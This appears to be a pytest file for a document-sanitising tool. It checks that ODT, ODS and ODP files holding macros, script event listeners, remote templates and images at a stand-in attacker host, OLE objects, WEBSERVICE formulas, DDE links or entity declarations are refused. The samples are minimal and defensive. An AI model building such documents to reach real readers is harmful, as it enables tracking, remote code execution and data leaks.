"""OpenDocument files: what could harm a reader is found wherever it lies."""

from __future__ import annotations

from pathlib import Path

import pytest

from poutama.features.evidence.types import ODP, ODS, ODT
from tests.unit.features.office import (
    DAMAGED,
    LINKS,
    MACROS,
    OASIS,
    OLE,
    PROGRAMS,
    REMOTE,
    Parts,
    archive,
    clean,
    content,
    manifest,
    open_document,
    refused,
)

OPEN_HARM: dict[str, tuple[Parts, str]] = {
    "scripts": ({"Basic/Standard/Module1.xml": b"<a/>"}, MACROS),
    "scripts in other letters": ({"BASIC/Standard/Module1.xml": b"<a/>"}, MACROS),
    "scripts in Python": ({"Scripts/python/a.py": b"x"}, MACROS),
    "an event": (
        {"styles.xml": content('<script:event-listener xlink:href="vnd.sun.star.script:a"/>')},
        MACROS,
    ),
    "an event under another prefix": (
        {"styles.xml": f'<a xmlns:x="{OASIS}:script:1.0"><x:event-listener/></a>'.encode()},
        MACROS,
    ),
    "an event in another encoding": (
        {"content.xml": content("<script:event-listener/>").decode().encode("utf-16")},
        MACROS,
    ),
    "a script": ({"content.xml": content("<office:script/>")}, MACROS),
    "an action of a slide": (
        {"content.xml": content('<presentation:event-listener presentation:action="execute"/>')},
        MACROS,
    ),
    "a template from elsewhere": (
        {"meta.xml": content('<meta:template xlink:href="http://evil.example/a.ott"/>')},
        REMOTE,
    ),
    "a picture from elsewhere": (
        {"content.xml": content('<draw:image xlink:href="https://evil.example/a.png"/>')},
        REMOTE,
    ),
    "a picture beside the document": (
        {"content.xml": content('<draw:image xlink:href="../a.png"/>')},
        REMOTE,
    ),
    "a picture of the reader's disk": (
        {"content.xml": content('<draw:image xlink:href="/etc/a.png"/>')},
        REMOTE,
    ),
    "a section from elsewhere": (
        {"content.xml": content('<text:section-source xlink:href="file://evil.example/a"/>')},
        REMOTE,
    ),
    "an object from elsewhere": (
        {"Object 1/content.xml": content('<draw:object xlink:href="http://evil.example/a"/>')},
        REMOTE,
    ),
    "an encoded place": (
        {"content.xml": content('<draw:image xlink:href="http%3A//evil.example/a"/>')},
        REMOTE,
    ),
    "a form that is sent": (
        {"content.xml": content('<form:form xlink:href="http://evil.example/"/>')},
        REMOTE,
    ),
    "an embedded object": ({"Object 2": OLE}, PROGRAMS),
    "an embedded object by its element": (
        {"content.xml": content('<draw:object-ole xlink:href="./Object 2"/>')},
        PROGRAMS,
    ),
    "a frame": ({"content.xml": content('<draw:floating-frame xlink:href="x"/>')}, PROGRAMS),
    "a formula that fetches": (
        {"content.xml": content('<table:table-cell table:formula="of:=WEBSERVICE(A1)"/>')},
        REMOTE,
    ),
    "data of a program": ({"content.xml": content("<table:dde-link/>")}, REMOTE),
    "a link that runs": (
        {"content.xml": content('<text:a xlink:href="vnd.sun.star.script:a">x</text:a>')},
        LINKS,
    ),
    "a link to a macro": (
        {"content.xml": content('<text:a xlink:href="macro:///a">x</text:a>')},
        LINKS,
    ),
    "a document behind a password": (
        {"META-INF/manifest.xml": manifest(ODT.media_type, "<manifest:encryption-data/>")},
        "password",
    ),
    "a template, renamed": (
        {"META-INF/manifest.xml": manifest(f"{ODT.media_type}-template")},
        DAMAGED,
    ),
    "no list of files": ({"META-INF/manifest.xml": b"<a/>"}, DAMAGED),
    "own declarations": (
        {"content.xml": b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'},
        DAMAGED,
    ),
}


@pytest.mark.parametrize("harm", OPEN_HARM)
@pytest.mark.parametrize("media_type", [ODT.media_type, ODS.media_type, ODP.media_type])
def test_what_harms_is_found_in_an_open_document(
    tmp_path: Path, media_type: str, harm: str
) -> None:
    more, reason = OPEN_HARM[harm]
    more = {
        name: data.replace(ODT.media_type.encode(), media_type.encode())
        for name, data in more.items()
    }
    assert reason in refused(tmp_path, open_document(media_type, more), media_type)


def test_an_old_document_may_name_its_type(tmp_path: Path) -> None:
    old = b'<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "M.dtd">'
    parts = open_document()
    parts["META-INF/manifest.xml"] = old + parts["META-INF/manifest.xml"]
    assert clean(tmp_path, archive(parts), ODT.media_type) == parts
